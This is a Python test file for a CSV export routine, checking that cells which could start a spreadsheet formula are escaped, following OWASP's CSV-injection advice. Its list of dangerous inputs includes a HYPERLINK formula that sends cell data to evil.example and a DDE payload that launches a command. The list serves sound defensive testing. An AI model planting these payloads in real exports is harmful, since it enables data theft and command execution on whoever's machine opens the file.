"""CSV answers are safe to open in a spreadsheet (OWASP's advice on CSV injection) and raw on request (issue 13)."""
from __future__ import annotations

import csv
import datetime as dt
import io
import unicodedata
from decimal import Decimal

import pytest
from hypothesis import given, settings, strategies as st

from shared.api.http import csv_lines

# The rule, stated here apart from the code: a cell is read as a formula if it starts with tab, CR, LF or NUL,
# or if its first character after spaces, controls and invisible format characters is = + - @ or the minus
# sign, in any of their compatibility forms (full-width, small, super- and subscript).
TRIGGERS = set("=+-@\u2212")


def reads_as_formula(cell: str) -> bool:
    if cell[:1] in ("\t", "\r", "\n", "\0"):
        return True
    for char in cell:
        if char.isspace() or unicodedata.category(char) in ("Cc", "Cf", "Zs", "Zl", "Zp"):
            continue
        return char in TRIGGERS or unicodedata.normalize("NFKC", char)[:1] in TRIGGERS
    return False


def unescape(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def one_cell(value, **options) -> str:
    """The CSV text of a one-column table holding `value`, and the cell as a CSV reader gives it back."""
    table = cells("".join(csv_lines(["v"], [{"v": value}], **options)))
    assert table[0] == ["v"] and len(table) == 2, table
    return table[1][0]


DANGEROUS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(A1:A9)", "-2+3", "+14255550123",
             "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "\tplain", "=cmd|' /C calc'!A0", " =1+1", "\u00a0=1+1",
             "\u200b=1+1", "\ufeff@SUM(1)", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\ufe661+1",
             "\ufe621", "\ufe631", "\ufe6bSUM(1)", "\u22121", "\u207b1", "\u207c1", "\u208a1"]


@pytest.mark.parametrize("text", DANGEROUS, ids=[repr(t)[:24] for t in DANGEROUS])
def test_a_cell_that_would_start_a_formula_is_escaped_and_gives_back_the_original(text):
    cell = one_cell(text)
    assert reads_as_formula(text), "the test's own rule must call this dangerous"
    assert cell == "'" + text and not reads_as_formula(cell) and unescape(cell) == text


def test_a_phone_number_shows_as_itself_as_text():
    # Excel takes the leading ' as "this is text" and does not show it: the cell reads +14255550123.
    assert one_cell("+14255550123") == "'+14255550123"
    assert one_cell("+14255550123", safe=False) == "+14255550123"


@pytest.mark.parametrize("text", ["0049301234567", "00", "12345678901234567"])
def test_digit_strings_a_spreadsheet_would_shorten_are_kept_as_text(text):
    assert one_cell(text) == "'" + text and unescape(one_cell(text)) == text


def test_a_leading_apostrophe_of_its_own_is_doubled_so_the_escape_reverses():
    assert one_cell("'quoted") == "''quoted" and unescape(one_cell("'quoted")) == "'quoted"


@pytest.mark.parametrize("value, cell", [
    (None, ""), ("", ""), (0, "0"), (42, "42"), (-3, "-3"), (-0.25, "-0.25"), (Decimal("-1.50"), "-1.50"),
    (True, "true"), (False, "false"), ("2026-04-07T10:00:00Z", "2026-04-07T10:00:00Z"), ("2026-04-07", "2026-04-07"),
    (dt.date(2026, 4, 7), "2026-04-07"), ("user_out", "user_out"), ("Anna Müller", "Anna Müller"), ("123", "123"),
    (["a", "b"], '["a","b"]'), ({"k": 1}, '{"k":1}'), ("a, b", "a, b"), ('say "hi"', 'say "hi"'),
    ("line\r\nbreak", "line\r\nbreak"), ("mid=1+1", "mid=1+1"), ("x-y", "x-y"), (" spaced", " spaced"),
])
def test_ordinary_values_are_written_as_before(value, cell):
    """Numbers stay numbers (a negative charge is a number, not a formula); dates, names, lists and texts that
    do not start a formula are written unchanged."""
    assert one_cell(value) == cell
    assert one_cell(value, safe=False) == cell


def test_every_field_is_quoted_so_another_separator_cannot_start_a_cell():
    """Excel in many locales splits on ';': an unquoted `a;=1+1` would become the cells `a` and `=1+1`."""
    text = "".join(csv_lines(["name", "n"], [{"name": "a;=1+1", "n": 5}]))
    assert text == '"name","n"\r\n"a;=1+1","5"\r\n'
    as_semicolon_list = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert as_semicolon_list[1][0].startswith("a;=1+1") and len(as_semicolon_list[1]) == 1


def test_raw_output_is_the_values_as_graph_sent_them():
    rows = [{"a": "=1+1", "b": "+14255550123", "c": None, "d": 7}]
    assert "".join(csv_lines(["a", "b", "c", "d"], rows, safe=False)) == "a,b,c,d\r\n=1+1,+14255550123,,7\r\n"


def test_the_header_is_a_row_like_the_others():
    assert cells("".join(csv_lines(["=x", "id"], [])))[0] == ["'=x", "id"]


@settings(max_examples=500, deadline=None)
@given(st.text())
def test_no_text_ever_starts_a_formula_and_removing_the_escape_gives_it_back(text):
    cell = one_cell(text)
    assert not reads_as_formula(cell), repr(cell)
    assert unescape(cell) == text


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(sorted(TRIGGERS) + ["\t", "\r", "\n", "\0", " ", "\u200b", "\uff1d",
                                                             "\ufe62", "'", "a", "1"]), min_size=1))
def test_texts_made_of_the_dangerous_characters_are_safe_too(text):
    cell = one_cell(text)
    assert not reads_as_formula(cell) and unescape(cell) == text
